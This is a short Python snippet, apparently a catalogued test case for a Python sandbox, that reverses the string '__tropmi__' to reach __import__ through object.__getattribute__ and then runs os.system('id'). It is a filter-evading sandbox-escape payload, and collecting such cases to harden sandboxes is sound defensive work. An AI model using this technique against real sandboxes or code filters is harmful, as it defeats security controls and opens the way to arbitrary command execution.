# Source: https://github.com/VectorlyApp/bluebox/issues/126 (object.__getattribute__ and chr())
# Family: attr-in-string
# What: object.__getattribute__ with a reversed string name
ga = object.__getattribute__
imp = ga(__builtins__, "__tropmi__"[::-1])
imp("os").system("id")
